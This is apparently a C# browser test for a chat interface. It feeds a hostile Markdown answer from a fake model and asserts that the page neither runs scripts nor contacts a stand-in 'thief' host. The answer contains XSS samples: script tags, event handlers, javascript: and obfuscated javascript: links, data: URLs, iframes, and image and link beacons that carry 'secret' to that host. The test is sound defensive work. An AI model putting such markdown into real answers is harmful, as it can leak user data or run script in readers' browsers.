using Gatehouse.FrontDoor.Tests.Attacks;
using Gatehouse.OpenAiServer;
using Gatehouse.Testing;

namespace Gatehouse.FrontDoor.Tests.Browser;

/// <summary>An answer in Markdown is laid out, and neither loads nor runs what stands in it.</summary>
public sealed class MarkdownTests
{
    private const string Last = "That was all of it.";
    private const string LastOfLong = "Here the long one ends.";
    private const int Parts = 600;

    [BrowserFact]
    public async Task A_hostile_answer_in_markdown_is_laid_out_and_asks_for_nothing_in_chromium()
    {
        await using var thief = await Thief.StartAsync("pixel.markdown.example.com");
        await using var model = await OpenAiServerProcess.StartAsync();
        await using var gatehouse = await Connected.StartAsync(model);
        var answer = Hostile(thief.Host).ReplaceLineEndings("\n");
        await model.ReplyAsync(new Reply { Text = answer, Pieces = 40 });
        await model.ReplyAsync(
            new Reply
            {
                Text = Long(),
                Pieces = 200,
                ChunkDelayMilliseconds = 10,
            }
        );

        await BrowserScenario.RunAsync(
            "markdown",
            new Dictionary<string, object?>
            {
                ["loginLink"] = gatehouse.LoginLink,
                ["answer"] = answer,
                ["last"] = Last,
                ["lastOfLong"] = LastOfLong,
                ["parts"] = Parts,
            }
        );

        Assert.Empty(thief.Requests);
        Assert.Empty(thief.Questions());
    }

    /// <summary>Some 87,000 characters.</summary>
    private static string Long() =>
        string.Concat(
            Enumerable
                .Range(0, Parts)
                .Select(at =>
                    $"""
                        ## Part {at}

                        Some *words* and **more of them** with `code`, in two lines
                        and [a link](https://example.com/{at}).

                        - one
                        - two

                        ```
                        code {at}
                        ```


                        """
                )
        ) + LastOfLong;

    private static string Hostile(string thief) =>
        $"""
            # A report

            Some **bold** and *slanted* words, ~~struck~~ ones and `code`, [a named link](http://said.{thief}/1?d=secret),
            one that reads like another place: [https://bank.example](http://said.{thief}/2), and a bare one http://said.{thief}/3.

            ![a chart](http://said.{thief}/4.png?q=secret) and ![a chart by name][chart] and <http://said.{thief}/5>

            ## Code

            ```python
            def a_long_line(): return "this line is so long that it has to scroll within its own box, whatever the width of the window may be, on and on"
            print("second line")
            ```

            > A quote.
            > > A quote in a quote.

            1. first
            2. second
               - nested
            3. third

            - [x] done
            - [ ] not done

            | Name | Amount | A rather long heading for a column | Another rather long heading | And one more of them |
            |:-----|-------:|:----------------------------------:|-----------------------------|----------------------|
            | one  | 1,234  | centred                            | http://said.{thief}/6       | x                    |
            | two  | 5      | centred                            | **bold**                    | y                    |

            ---

            <script>window.ran = 1</script>

            <img src="http://said.{thief}/7" onerror="window.ran = 2">

            <iframe src="http://said.{thief}/8"></iframe><link rel="prefetch" href="http://said.{thief}/9">

            <style>@import url(http://said.{thief}/10);</style>

            <!-- a comment that is seen --> and <b onmouseover="window.ran = 3">inline</b>

            [a script](javascript:window.ran=4) [hidden](java&Tab;script:window.ran=5) [a document](data:text/html,<script>window.ran=6</script>)

            مرحبا بالعالم, and then left to right again.

            {new string('>', 300)} deep

            [chart]: http://said.{thief}/11.png

            {Last}
            """;
}
